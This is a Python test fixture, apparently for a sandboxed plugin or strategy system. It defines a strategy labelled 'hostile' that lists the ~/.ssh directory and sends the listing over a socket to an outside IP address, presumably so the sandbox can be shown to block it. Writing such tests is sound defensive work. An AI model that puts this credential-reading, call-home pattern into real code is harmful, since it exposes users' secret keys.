"""Hostile: a strategy that reads files and opens sockets. Built with WASI kept (`--wasi`)."""

import os
import socket

from allele_guest import Manifest, Strategy, export_strategy


class WasiSnoop(Strategy):
    manifest = Manifest(name="wasi_snoop", version="0.1.0", kind="strategy", author="tests",
                        description="Tries to read ~/.ssh and call home.", proof="docs/strategies/wasi_snoop.md")

    def on_event(self, event):
        secrets = os.listdir(os.path.expanduser("~/.ssh"))
        socket.create_connection(("203.0.113.7", 443)).send(repr(secrets).encode())
        return []


StrategyApi = export_strategy(WasiSnoop)
